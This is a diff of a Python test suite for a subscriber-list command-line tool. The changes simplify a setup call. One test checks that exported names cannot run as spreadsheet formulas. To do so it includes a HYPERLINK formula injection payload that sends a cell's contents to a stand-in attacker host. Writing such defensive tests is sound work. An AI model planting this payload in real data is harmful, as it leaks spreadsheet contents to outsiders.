@@ -32,7 +32,7 @@ def run(workdir: Path, *args: str) -> tuple[int, str, str]:
 
 
 def test_import_validates_normalises_merges_and_never_resurrects(workdir: Path) -> None:
-    migrated(workdir, base_env(workdir))
+    migrated(workdir)
     first = workdir / "first.csv"
     first.write_text("email,name\ngone@example.ru,Ушедший\n", encoding="utf-8")
     assert run(workdir, "import", str(first))[0] == 0
@@ -74,7 +74,7 @@ def test_import_validates_normalises_merges_and_never_resurrects(workdir: Path) 
 
 
 def test_export_then_forget_leaves_only_a_hash(workdir: Path) -> None:
-    migrated(workdir, base_env(workdir))
+    migrated(workdir)
     code, out, err = run(workdir, "add", "vera@example.ru", "--name", "Вера", "--sections", "флот")
     assert code == 0 and "added" in out, err
     code, out, _ = run(workdir, "export", "vera@example.ru")
@@ -97,7 +97,7 @@ def test_export_then_forget_leaves_only_a_hash(workdir: Path) -> None:
 
 
 def test_a_csv_without_an_email_column_is_refused(workdir: Path) -> None:
-    migrated(workdir, base_env(workdir))
+    migrated(workdir)
     path = workdir / "bad.csv"
     path.write_text("mail,name\nx@example.ru,X\n", encoding="utf-8")
     code, _, err = run(workdir, "import", str(path))
@@ -194,7 +194,7 @@ def test_invite_sends_each_pending_subscriber_one_confirmation(workdir: Path) ->
 def test_export_neutralises_formulas_and_writes_dash_to_stdout(workdir: Path) -> None:
     """Issue 12.9: a name like =HYPERLINK(…) must not run as a formula when the
     export is opened in a spreadsheet; `--out -` is standard output, not a file."""
-    migrated(workdir, base_env(workdir))
+    migrated(workdir)
     evil = '=HYPERLINK("https://evil.example/?d="&A2,"Открыть")'
     code, out, err = run(workdir, "add", "vera@example.ru", "--name", evil, "--no-invite")
     assert code == 0, err
@@ -219,7 +219,7 @@ def test_a_hostile_csv_loses_only_its_bad_lines_each_named_by_its_true_number(
     """Issue 12.5/9: an undecodable byte, an over-long field, a 70-octet local part,
     a bad zone and a quoted field spanning lines: each bad line is reported with
     the number an editor sees, and every good line is loaded."""
-    migrated(workdir, base_env(workdir))
+    migrated(workdir)
     path = workdir / "hostile.csv"
     path.write_bytes(
         b"email,name,timezone\r\n"  # line 1
